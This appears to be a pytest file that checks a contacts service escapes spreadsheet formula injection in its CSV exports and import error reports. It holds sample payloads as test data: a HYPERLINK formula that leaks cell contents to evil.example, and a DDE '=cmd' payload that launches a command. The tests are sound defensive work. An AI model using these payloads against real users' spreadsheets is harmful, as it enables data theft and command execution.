"""Exported CSV never hands a spreadsheet a formula: user-typed cells starting with = + - @ tab or
CR get a leading quote (OWASP), while E.164 numbers the product wrote are kept as they are."""

import csv
import io

import pytest

from services.contacts.entrypoints.safe_csv import csv_bytes, neutralised
from tests.contacts.test_imports import HEADER, error_report, run_import

pytestmark = pytest.mark.usefixtures("contacts_runtime")

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your prize")'


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(cell):
    assert neutralised(cell) == "'" + cell
    [[written]] = list(csv.reader(io.StringIO(csv_bytes([[cell]]).decode())))
    assert written == "'" + cell


@pytest.mark.parametrize("cell", ["Ada", "", "1+1", "a=b", "O'Brien", " =x"])
def test_other_cells_are_left_as_they_are(cell):
    assert neutralised(cell) == cell


def test_only_e164_lists_in_their_own_columns_are_kept_as_they_are():
    rows = [["+15125550101;+14155552671", "+15125550101", "+1 512 555 0101", "+15125550101;=1"]]
    [written] = list(csv.reader(io.StringIO(csv_bytes(rows, e164_columns=frozenset({0, 2, 3})).decode())))
    assert written == ["+15125550101;+14155552671", "'+15125550101", "'+1 512 555 0101", "'+15125550101;=1"]


async def test_an_exported_hyperlink_formula_in_a_first_name_is_text(http, account, as_user):
    headers = as_user(account, role="admin")
    created = await http.post("/v1/contacts", headers=headers, json={
        "first_name": HYPERLINK, "last_name": "-2+3", "address": {"city": "@cmd", "street": "+1 Main St"},
        "phones": [{"number": "(512) 555-0101", "type": "cell"}, {"number": "(415) 555-2671"}],
    })
    assert created.status_code == 201, created.text
    response = await http.get("/v1/contacts/export.csv", headers=headers)
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["first_name"] == "'" + HYPERLINK
    assert row["last_name"] == "'-2+3" and row["city"] == "'@cmd" and row["street"] == "'+1 Main St"
    assert row["phones"] == "+15125550101;+14155552671"


async def test_the_import_error_report_neutralises_the_rows_it_repeats(http, account, as_user):
    headers = as_user(account, role="admin")
    content = "\n".join([HEADER, 'Ada,Lovelace,not-an-email,2025550123,,,,,,', '=cmd|\' /C calc\'!A0,X,bad@,12,,,,,,']).encode()
    job = await run_import(http, headers, content)
    rows = await error_report(http, headers, job["id"])
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
